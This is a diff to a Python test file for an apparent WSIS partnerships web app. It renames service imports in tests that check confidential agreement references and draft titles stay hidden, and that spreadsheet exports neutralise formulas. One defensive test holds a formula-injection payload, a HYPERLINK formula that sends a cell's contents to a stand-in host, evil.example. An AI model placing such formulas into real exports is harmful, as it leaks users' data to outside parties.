@@ -4,7 +4,8 @@ organisation pages name an agreement or an activity only to those who may open i
 import pytest
 
 from conftest import sample
-from wsis.partnerships import services
+from wsis.partnerships.cooperation import services as cooperation_services
+from wsis.partnerships.funding import services as funding_services
 from wsis.partnerships.tests.conftest import flow
 from wsis.stocktaking.services import activity_create
 from wsis.web.tests.bodies import body_text
@@ -24,8 +25,8 @@ def _flow_pages(funding) -> list[str]:
 def test_reference_of_an_agreement_the_reader_may_not_open(client, funding):
     from wsis.partnerships.tests.test_services import agreement_data
 
-    services.agreement_create(actor=funding["admin"], data=agreement_data(funding, reference="SECRET-MOU-77"))
-    services.flows_record(actor=funding["admin"], items=[("1", flow(funding["activity"], funding["eu"],
+    funding_services.agreement_create(actor=funding["admin"], data=agreement_data(funding, reference="SECRET-MOU-77"))
+    funding_services.flows_record(actor=funding["admin"], items=[("1", flow(funding["activity"], funding["eu"],
                                                                     agreement="SECRET-MOU-77"))])
     for page in _flow_pages(funding):
         resp = client.get(page)
@@ -40,7 +41,7 @@ def test_reference_of_an_agreement_the_reader_may_not_open(client, funding):
 def test_title_of_an_activity_the_reader_may_not_open(client, funding):
     draft = activity_create(actor=funding["author"], data=sample(texts={"en": {"title": "Confidential draft plan"}},
                                                                   budget_amount="5000", budget_currency="EUR"))
-    services.flows_record(actor=funding["admin"], items=[("1", flow(draft, funding["eu"]))])
+    funding_services.flows_record(actor=funding["admin"], items=[("1", flow(draft, funding["eu"]))])
     for who in ("officer", "funder_user"):
         client.force_login(funding[who])
         for page in _flow_pages(funding):
@@ -60,7 +61,7 @@ def test_a_title_typed_as_a_formula_is_text_in_the_public_download(client, fundi
     from openpyxl import load_workbook
 
     attack = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
-    services.contribution_create(actor=funding["author"], data={
+    cooperation_services.contribution_create(actor=funding["author"], data={
         "symbol": "SG1RGQ/9", "body": "sg1", "meeting": "SG1", "date": "2025-04-10", "title": attack,
         "language": "en", "sources": [funding["ministry"].pk], "action_lines": ["C2"]})
     resp = client.get(f"/en/partnerships/contributions/?format={fmt}")
